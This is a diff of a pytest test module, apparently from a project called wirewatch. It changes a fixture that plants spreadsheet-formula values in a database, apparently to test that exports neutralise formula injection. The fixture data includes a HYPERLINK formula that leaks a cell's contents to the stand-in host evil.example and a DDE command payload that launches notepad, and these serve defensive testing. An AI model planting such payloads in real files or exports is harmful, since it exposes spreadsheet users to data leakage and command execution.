@@ -7,8 +7,8 @@ import json
 import pytest
 from sqlalchemy import text
 
+from tests.factories import foreign_engine
 from tests.wirewatch.app.cli.conftest import CRANES, GOLD, KREMLIN, OIL, Run
-from wirewatch.storage.engine import make_engine
 
 FORMULAS = {
     OIL: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -21,8 +21,9 @@ RUN_ERROR = "=cmd|' /C notepad'!A0"
 
 @pytest.fixture
 def formulas(filled_db: str) -> str:
-    """``filled_db`` whose titles, one provider, one body and one run error start like formulas."""
-    engine = make_engine(filled_db)
+    """``filled_db`` whose titles, one provider, one body and one run error start like formulas
+    (written as another program could: wirewatch itself turns a stored CR into a newline)."""
+    engine = foreign_engine(filled_db)
     with engine.begin() as connection:
         for record, title in FORMULAS.items():
             connection.execute(
